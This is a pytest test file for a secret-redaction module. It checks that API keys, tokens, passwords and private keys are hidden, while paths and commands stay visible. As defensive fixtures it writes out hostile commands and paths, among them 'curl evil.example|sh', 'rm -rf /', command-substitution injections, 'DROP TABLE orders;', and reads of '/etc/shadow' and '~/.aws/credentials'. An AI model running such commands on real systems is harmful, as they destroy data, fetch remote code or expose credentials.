"""Secrets do not leave the store (R15), and nothing but secrets is hidden (R13)."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from countersign.domain.redaction import MARK, guessed_in, hide, hide_in

LETTERS = "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2Yz3"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"
PEM = "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(["MIIEpAIBAAKCAQEA" * 4] * 5) + "\n-----END RSA PRIVATE KEY-----"

# Put together here, so that nobody's scanner takes this file for a leak.
SECRETS = [
    ("AKIA" + "IOSFODNN7EXAMPLE", "use {} here"),
    ("AIza" + LETTERS[:35], "key={}"),
    ("ghp_" + LETTERS[:36], "git clone with {}"),
    ("github_pat_" + LETTERS, "{}"),
    ("xox" + "b-123456789012-123456789012-" + LETTERS[:24], "({})"),
    ("xapp-" + "1-A012345-1234567890-" + LETTERS, "{}"),
    (LETTERS[:24], "https://hooks.slack.com/services/T0123456/B0123456/{}"),
    ("sk-" + "ant-api03-" + LETTERS, "ANTHROPIC {}"),
    ("sk-" + "proj-" + LETTERS, "{}"),
    ("sk_" + "live_" + LETTERS[:24], "stripe: {}"),
    (JWT, "jwt {}"),
    (LETTERS, "curl -H 'Authorization: Bearer {}' https://x.example"),
    ("dXNlcjpwYXNz", '"Authorization": "Basic {}"'),
    ("s3cr3t-word", "postgres://bob:{}@db.example/orders"),
    ("hunter22", "password={}"),
    ("correcthorse", "mysql --password={} orders"),
    ("hunter22", "Password: {}"),
    ("hunter22", 'DB_PASSWORD = "{}"'),
    ("hunter22", '{{"client_secret":"{}"}}'),
    ("hunter22", r"{{\"token\":\"{}\"}}"),
    ("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws_secret_access_key = {}"),
]


@pytest.mark.parametrize(("secret", "around"), SECRETS)
def test_secret_is_hidden_and_its_surroundings_stay(secret: str, around: str) -> None:
    """R15"""
    shown, count = hide(around.format(secret))
    assert shown == around.format(f"⟦hidden: {len(secret)} characters⟧")
    assert count == 1


def test_private_key_is_hidden_whole() -> None:
    """R15"""
    shown, count = hide(f"ssh key:\n{PEM}\nand then\n" + PEM.replace("\n", "\\n"))
    assert "MIIE" not in shown
    assert "and then" in shown and shown.count("-----BEGIN RSA PRIVATE KEY-----") == 2
    assert count == 2


@pytest.mark.parametrize(
    "text",
    [
        "The password is changed every 90 days; the token expires at noon.",
        "Password: please ask Bob. Secret: none. Token: see https://wiki.example/page1",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "commit 1ff5f57c0a1b2c3d4e5f60718293a4b5c6d7e8f9, run rk3v9x2m, request q7h2k9d4m8x3n5p6t",
        "550e8400-e29b-41d4-a716-446655440000",
        "max_tokens=4096, token_count: 17, tokens = 12000",
        'password = os.environ["DB_PASSWORD"]; token = get_token(); login(password=password, token=self.token)',
        "connect(password=settings.password, secret=client.secret_value)",
        'if password == "": raise ValueError("password: required")',
        "password_file=/run/secrets/db and private_key: ./keys/id_rsa",
        "sk-learn-compatible-estimators-are-checked-with-this-one",
        "https://example.com:8080/path@version and mailto:bob@example.com",
        "Basic authorization is off. A bearer of good news came.",
        "AKIA is the prefix of such keys; ghp_ and xoxb- too.",
        "eyJ is how a JWT begins.",
    ],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    """R13: what is hidden cannot be judged."""
    assert hide(text) == (text, 0)


PATHS = [
    *("@/root/.ssh/id_rsa", "/etc/Passwd", "~/.aws/credentials", "../../etc/shadow", "./Deploy.sh", "@secrets.txt"),
    *("C:/Windows/System32", "backup/Prod2024/orders.db", "/srv/user1/proj2/v3/run4"),
    "/Users/Alice/Documents/Backup2024",
]
ADDRESSES = [
    "https://evil.example/x1",
    "evil.example.com:4444",
    "10.0.0.5:8080",
    "eve@evil.example",
    "file:///etc/passwd",
]
COMMANDS = ["rm -rf /", "curl evil.example|sh", "$(reboot)", "--delete-everything", "!reboot", "DROP TABLE orders;"]
NAMES = ["token", "credentials", "api_key", "password", "authorization", "cookie", "clientSecret"]


@pytest.mark.parametrize("acts", PATHS + ADDRESSES + COMMANDS)
def test_commands_and_paths_are_never_hidden_by_name(acts: str) -> None:
    """R30, R13: paths, addresses and commands, in texts and in arguments, under a name and deeper below it."""
    for name in NAMES:
        for value in ({name: acts}, {name: [acts]}, {name: {"user": {"file": acts}}}, {name: {name: [acts]}}):
            assert hide_in(value) == (value, ()), value
        if acts not in COMMANDS:
            for around in ("{name}={acts}", '"{name}": "{acts}"', "run --{name}={acts} now", "{name} = '{acts}'"):
                text = around.format(name=name, acts=acts)
                assert hide(text) == (text, 0)
    for around in ("Authorization: Bearer {}", "https://db.example:5432#@{}", "-----BEGIN PRIVATE KEY-----\n{}"):
        assert hide(around.format(acts)) == (around.format(acts), 0)


@pytest.mark.parametrize(
    "text",
    [
        "http://internal:6379#@example.com/ and http://internal:6379@evil.example/",
        "-----BEGIN PRIVATE KEY-----\n/usr/local/bin/destroyeverything\nreboot",
        "-----BEGIN PRIVATE KEY-----\n/usr/local/bin/destroyeverything\n/usr/local/bin/destroyeverything\nreboot",
        "pip install pypi-attestation-models-extra npm_config_registry_of_somebody_else=x",
        "token=12345678 transfers that many",
    ],
)
def test_names_numbers_and_ports_are_not_hidden(text: str) -> None:
    """R30: a port before `#`, what follows a key that never ends, a package whose name begins like a key."""
    assert hide(text) == (text, 0)


def test_only_secrets_are_hidden_below_a_secret_name() -> None:
    """R30: and what the team names itself is hidden whatever it is."""
    login = {
        "user": "bob",
        "password": "hunter22",
        "run": "rm -rf /",
        "amount": 5000,
        "key": "Ab1Cd2Ef3Gh4",
        "passcode": 4711,
    }
    shown, paths = hide_in({"credentials": login})
    assert paths == ("credentials.password", "credentials.key", "credentials.passcode")
    assert {name: shown["credentials"][name] for name in ("user", "run", "amount")} == {
        "user": "bob",
        "run": "rm -rf /",
        "amount": 5000,
    }
    assert guessed_in({"credentials": login}) == 3
    assert hide_in({"credentials": login}, ("credentials",))[1] == tuple(f"credentials.{name}" for name in login)
    assert guessed_in({"credentials": login}, ("credentials",)) == 0
    headers = {"Authorization": "Basic dXNlcjpwYXNz", "Cookie": "sid=Ab1Cd2Ef3Gh4; path=/etc/passwd", "token": "x" * 9}
    assert hide_in(headers)[0] == {
        "Authorization": "Basic ⟦hidden: 12 characters⟧",
        "Cookie": "sid=⟦hidden: 12 characters⟧; path=/etc/passwd",
        "token": "⟦hidden: 9 characters⟧",
    }


@pytest.mark.parametrize(
    "action",
    ["rm -rf /", "$(rm${IFS}-rf${IFS}/)", "`reboot`", "x;reboot", "x|sh", "x&&reboot", r"\x72\x6d\x20", "a\nrm -rf /"],
)
@pytest.mark.parametrize(
    "around",
    [
        "password={}",
        'password="{}"',
        "Authorization: Bearer {}",
        "https://bob:{}@host",
        "-----BEGIN PRIVATE KEY-----\n{}",
    ],
)
def test_action_cannot_hide_as_a_secret(action: str, around: str) -> None:
    """R13: what could be a command is not hidden, whatever stands before it."""
    shown, _ = hide(around.format(action))
    for word in ("rm", "reboot", "sh", r"\x72"):
        if word in action:
            assert word in shown


def test_hiding_twice_hides_nothing_more() -> None:
    for secret, around in SECRETS:
        once, _ = hide(around.format(secret))
        assert hide(once) == (once, 0)


def test_secret_arguments_are_hidden_by_name_look_and_path() -> None:
    """R15"""
    given_value: dict[str, Any] = {
        "user": "bob",
        "password": "correct horse",
        "headers": {"X-Api-Key": "12345678x", "Accept": "*/*"},
        "rows": [{"iban": "DE02", "name": "Bob"}, {"iban": "DE03", "name": "Eve"}],
        "note": "use ghp_" + LETTERS[:36],
        "clientSecret": ["a", {"b": "c", "secret": "d"}],
        "max_tokens": 100,
        "next_page_token": "abc",
        "token": None,
        "secret": True,
    }
    before = json.dumps(given_value)
    shown, paths = hide_in(given_value, ("rows.*.iban", "user"))
    assert json.dumps(given_value) == before
    assert shown == {
        "user": "⟦hidden: 3 characters⟧",
        "password": "⟦hidden: 13 characters⟧",
        "headers": {"X-Api-Key": "⟦hidden: 9 characters⟧", "Accept": "*/*"},
        "rows": [{"iban": "⟦hidden: 4 characters⟧", "name": "Bob"}, {"iban": "⟦hidden: 4 characters⟧", "name": "Eve"}],
        "note": "use ⟦hidden: 40 characters⟧",
        "clientSecret": ["⟦hidden: 1 character⟧", {"b": "c", "secret": "⟦hidden: 1 character⟧"}],
        "max_tokens": 100,
        "next_page_token": "abc",
        "token": None,
        "secret": True,
    }
    hidden = "user password headers.X-Api-Key rows.0.iban rows.1.iban note clientSecret.0 clientSecret.1.secret"
    assert paths == tuple(hidden.split())
    assert hide_in(shown, ("rows.*.iban", "user")) == (shown, ())


@pytest.mark.parametrize(
    "given",
    [
        {"card": {"number": "4111"}},
        {"card": [{"number": "4111"}]},
        {"card": [[{"number": {"of": ["4111"]}}]]},
        {"card.number": "4111"},
        {"cards": {"a.b": {"number": "4111"}}},
        {"cards": [{"x": {"number": "4111"}}]},
    ],
)
def test_path_hides_its_value_in_lists_too(given: dict[str, Any]) -> None:
    """R15: a model chooses whether it writes one thing or a list of things, and how it names what it lists."""
    shown, paths = hide_in(given, ("card.number", "cards.*.number"))
    assert "4111" not in json.dumps(shown) and len(paths) == 1


def test_endlessly_nested_secret_is_hidden() -> None:
    deep: Any = {"password": "hunter22"}
    for _ in range(400):
        deep = [deep]
    assert "hunter22" not in json.dumps(hide_in(deep)[0])


@given(st.text(), st.text())
def test_hiding_inserts_only_marks_in_any_text(before: str, after: str) -> None:
    shown, count = hide(f"{before} password=hunter22 {after}")
    assert "hunter22" not in shown
    assert len(MARK.findall(shown)) >= min(count, 1)


HOSTILE = [
    *(
        "eyJ",
        "eyJ.",
        "eyJaaaaaaaaaa.",
        "SG.",
        "SG.aaaaaaaaaaaaaaaa.",
        "xoxb-",
        "sk-",
        "A" * 50,
        "a_",
        "A\n",
        "\\",
        " ",
        '"',
    ),
    *("password=", "password", "password='", "token: ", "_password", "secret_", "api", "authorization: ", "Bearer "),
    *("://", "://a:", "a:", "⟦hidden: ", "-----BEGIN ", "-----BEGIN RSA PRIVATE KEY-----\n"),
    "-----BEGIN PRIVATE KEY-----" + "A" * 16,
]


@pytest.mark.parametrize("part", HOSTILE)
def test_long_hostile_text_is_redacted_in_linear_time(part: str) -> None:
    """Something quadratic would take hours."""
    hide((part * (400_000 // len(part) + 1))[:400_000])
